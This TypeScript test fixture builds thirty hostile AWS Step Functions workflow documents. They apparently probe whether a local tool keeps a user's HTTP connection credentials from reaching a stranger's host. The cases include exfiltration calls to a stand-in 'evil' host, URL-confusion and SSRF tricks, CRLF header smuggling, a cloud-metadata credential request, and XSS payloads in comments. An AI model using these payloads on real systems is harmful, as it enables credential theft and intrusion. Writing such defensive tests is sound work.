import { MY_CONNECTION } from './machines.ts';

/** Where a stranger's workflow would like things to go, and where the person's secret belongs. Origins, no slash at the end. */
export interface Places {
  /** The origin that the connection of the person is bound to. */
  readonly mine: string;
  /** A server of the stranger; nothing of the person's may arrive there. */
  readonly evil: string;
  /** The bridge itself. */
  readonly bridge: string;
}

export interface HostileDocument {
  readonly what: string;
  /** `Go` is the state that is tested; text where it is no JSON. */
  readonly document: Readonly<Record<string, unknown>> | string;
  readonly kind?: 'yaml';
  readonly input?: Readonly<Record<string, unknown>>;
}

/** A connection that the person made for the stranger's host: requests with it arrive there, and must hold nothing else of the person's. */
export const THEIRS = MY_CONNECTION.replace('connection/mine/', 'connection/theirs/');
/** Another connection: the person has none under this ARN, though the name is the same. */
const TWIN = MY_CONNECTION.replace('111122223333', '999988887777');

const call = (url: string, more: Readonly<Record<string, unknown>> = {}, connection: string = MY_CONNECTION, rest: Readonly<Record<string, unknown>> = { End: true }) => ({
  Type: 'Task', Resource: 'arn:aws:states:::http:invoke', Arguments: { Method: 'POST', ApiEndpoint: url, InvocationConfig: { ConnectionArn: connection }, ...more }, ...rest,
});
const going = (state: Readonly<Record<string, unknown>>, more: Readonly<Record<string, unknown>> = {}) => ({ QueryLanguage: 'JSONata', StartAt: 'Go', States: { Go: state, ...more } });
const to = (url: string, more?: Readonly<Record<string, unknown>>, connection?: string) => going(call(url, more, connection));
const jsonPath = (parameters: Readonly<Record<string, unknown>>) => ({ StartAt: 'Go', States: { Go: { Type: 'Task', Resource: 'arn:aws:states:::http:invoke', Parameters: { Method: 'POST', 'InvocationConfig': { ConnectionArn: MY_CONNECTION }, ...parameters }, End: true } } });

/** The host of `origin` in other words. */
const hostOf = (origin: string) => new URL(origin).host;
const portOf = (origin: string) => new URL(origin).port;
const WIDE = { 0: '０', 1: '１', 2: '２', 7: '７' } as const;
const wide = (text: string) => text.replace(/[0127]/g, (digit) => WIDE[digit as '0' | '1' | '2' | '7']);

/** Thirty documents that somebody might open because a stranger sent them. */
export const hostileDocuments = ({ mine, evil, bridge }: Places): readonly HostileDocument[] => [
  { what: 'names my connection and another host', document: to(`${evil}/steal`) },
  { what: 'puts the host together from the input', document: to("{% $states.input.to & '/steal' %}"), input: { to: evil } },
  { what: 'turns the host round', document: to("{% $join($reverse($split($states.input.turned, ''))) %}"), input: { turned: [...`${evil}/steal`].toReversed().join('') } },
  { what: 'evaluates a program of the input', document: to('{% $eval($states.input.program) %}', { RequestBody: { secret: `{% $eval('$states') %}` } }, THEIRS), input: { program: `'${evil}/program'` } },
  { what: 'writes my host as a user name', document: to(`http://${hostOf(mine)}@${hostOf(evil)}/steal`) },
  { what: 'ends the host by a backslash', document: to(`http:\\\\${hostOf(evil)}\\@${hostOf(mine)}/steal`) },
  { what: 'writes digits of full width', document: to(`http://${wide('127.0.0.1')}:${portOf(evil)}/steal`) },
  { what: 'writes the address as one number', document: to(`http://2130706433:${portOf(evil)}/steal`) },
  { what: 'names my host below its own', document: to(`http://127.0.0.1.localhost:${portOf(evil)}/steal`) },
  { what: 'changes the port', document: to(`${mine.replace(/:\d+$/, '')}:${portOf(evil)}/steal`) },
  { what: 'changes the scheme', document: to(`${mine.replace('http:', 'https:')}/steal`) },
  { what: 'puts another host into the path', document: to(`${mine}//${hostOf(evil)}/steal`) },
  { what: 'is led on by a redirect', document: to(`${mine}/away`) },
  { what: 'has a header of its own for the key', document: to(`${evil}/steal`, { Headers: { 'X-Note': '{% $string($states.context) %}' } }, THEIRS) },
  { what: 'names another host as Host', document: to(`${mine}/steal`, { Headers: { Host: hostOf(evil) } }) },
  { what: 'starts a second request in a header', document: to(`${mine}/steal`, { Headers: { 'X-Note': `a\r\nHost: ${hostOf(evil)}\r\n\r\nGET ${evil}/steal HTTP/1.1` } }) },
  { what: 'sends all it can see', document: to(`${evil}/steal`, { RequestBody: '{% $states %}', QueryParameters: { all: '{% $string($states.context) %}' } }, THEIRS) },
  { what: 'names a connection that is called like mine', document: to(`${evil}/steal`, {}, TWIN) },
  { what: 'computes the connection', document: to(`${evil}/steal`, {}, `{% $states.input.arn %}`), input: { arn: MY_CONNECTION } },
  { what: 'does it in JSONPath', document: jsonPath({ 'ApiEndpoint.$': "States.Format('{}/steal', $.to)" }), input: { to: evil } },
  { what: 'tries again, as often as it may', document: going(call(`${evil}/status/500`, {}, THEIRS, { End: true, Retry: [{ ErrorEquals: ['States.ALL'], MaxAttempts: 99_999_999, IntervalSeconds: 1 }] })) },
  { what: 'goes on to another host when it fails', document: going(call(`${mine}/status/500`, {}, MY_CONNECTION, { End: true, Catch: [{ ErrorEquals: ['States.ALL'], Next: 'Steal' }] }), { Steal: call(`${evil}/steal`) }) },
  { what: 'does it in every branch', document: going({ Type: 'Parallel', End: true, Branches: [{ StartAt: 'A', States: { A: call(`${evil}/branch`, {}, THEIRS) } }, { StartAt: 'B', States: { B: call(`${evil}/steal`) } }] }) },
  { what: 'does it for a thousand items', document: going({ Type: 'Map', Items: '{% [1..1000] %}', End: true, ItemProcessor: { StartAt: 'Each', States: { Each: call(`${evil}/item`, {}, THEIRS) } } }) },
  { what: 'asks a cloud for credentials', document: to('http://169.254.169.254/latest/meta-data/iam/security-credentials/') },
  { what: 'calls the bridge', document: to(`${bridge}/bridge/send`, { Headers: { 'x-asl-studio-token': '{% $states.context.Token %}' } }) },
  { what: 'calls the bridge by another name', document: to(`${bridge.replace('127.0.0.1', 'localhost')}/bridge/hello`) },
  { what: 'bears names that are programs', document: { QueryLanguage: 'JSONata', Comment: `[free](javascript:fetch('${evil}/steal')) ![x](${evil}/steal)`, StartAt: 'Go', States: { Go: { ...call(`${evil}/steal`), Comment: `<img src="${evil}/steal" onerror="fetch('${evil}/steal')">` }, [`<img src=${evil}/steal>`]: { Type: 'Pass', End: true }, __proto__x: { Type: 'Pass', End: true } } } },
  { what: 'answers with a page that sends', document: to(`${mine}/page`) },
  { what: 'is YAML with parts that refer to each other', kind: 'yaml', document: `QueryLanguage: JSONata\nStartAt: Go\nStates:\n  Go: &go\n    Type: Task\n    Resource: arn:aws:states:::http:invoke\n    Arguments: &args\n      Method: POST\n      ApiEndpoint: ${evil}/steal\n      InvocationConfig:\n        ConnectionArn: ${MY_CONNECTION}\n    End: true\n` },
];
